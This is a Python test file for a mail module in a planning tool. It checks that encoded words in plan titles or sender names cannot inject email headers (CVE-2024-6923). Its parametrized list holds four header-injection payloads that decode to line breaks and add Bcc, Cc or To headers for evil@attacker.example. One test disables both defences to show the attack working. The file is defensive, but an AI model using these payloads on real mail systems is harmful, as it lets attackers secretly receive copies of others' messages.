"""No plan text reaches a header as syntax (issue 34, item 4): an encoded word in the plan's
title or an owner's name is text, whatever the Python (3.11.7 writes a decoded line break raw,
CVE-2024-6923), and a message whose headers do not read back as written is never sent."""

from __future__ import annotations

import email
import sys
from datetime import UTC, datetime
from email import policy

import pytest

from hplan.errors import WriteRefused
from hplan.mail import message as mail
from hplan.mail.message import Letter, compose, read_sender

INJECTIONS = [
    "=?utf-8?q?Linda=0D=0ABcc:_evil@attacker.example?=",
    "=?UTF-8?B?TGluZGENCkJjYzogZXZpbEBhdHRhY2tlci5leGFtcGxl?=",
    "Plan =?iso-8859-1?q?x=0ACc:_evil@attacker.example?= 2025",
    "=?utf-8?q?x=0D=0ATo:_evil@attacker.example?=",
]


def letter(name: str, subject: str) -> Letter:
    return Letter(name, "linda.beigler@example.org", subject, "Hej", "<p>Hej</p>")


def sent(message: email.message.EmailMessage) -> email.message.EmailMessage:
    parsed = email.message_from_bytes(message.as_bytes(), policy=policy.default)
    assert isinstance(parsed, email.message.EmailMessage)
    return parsed


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_an_encoded_word_in_plan_text_stays_text(hostile: str) -> None:
    composed = compose(letter(hostile, hostile), read_sender(f"{hostile} <plan@example.org>"),
                       datetime(2025, 7, 1, tzinfo=UTC), "<id@example.org>")  # fmt: skip
    parsed = sent(composed)
    assert parsed["Bcc"] is None and parsed["Cc"] is None
    assert [a.addr_spec for a in parsed["To"].addresses] == ["linda.beigler@example.org"]
    assert len(parsed.get_all("To") or []) == 1
    # The reader sees the text as the plan has it (an invisible joiner after "=").
    assert str(parsed["Subject"]).replace(mail.WORD_JOINER, "") == hostile


def test_without_the_literal_text_the_read_back_refuses_the_message(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The second line of defence holds alone: plan text taken for an encoded word adds a
    header, and the message is refused before it is sent."""
    monkeypatch.setattr(mail, "_literal", lambda text: text)
    with pytest.raises(WriteRefused):
        compose(letter("Linda", INJECTIONS[0]), read_sender("plan@example.org"),
                datetime(2025, 7, 1, tzinfo=UTC), "<id@example.org>")  # fmt: skip
    monkeypatch.setattr(mail, "_read_back", lambda message, address: None)
    opened = sent(compose(letter("Linda", INJECTIONS[0]), read_sender("plan@example.org"),
                          datetime(2025, 7, 1, tzinfo=UTC), "<id@example.org>"))  # fmt: skip
    # Both off, the attack works on a Python without the fix of CVE-2024-6923.
    assert opened["Bcc"] is not None or sys.version_info >= (3, 11, 10)
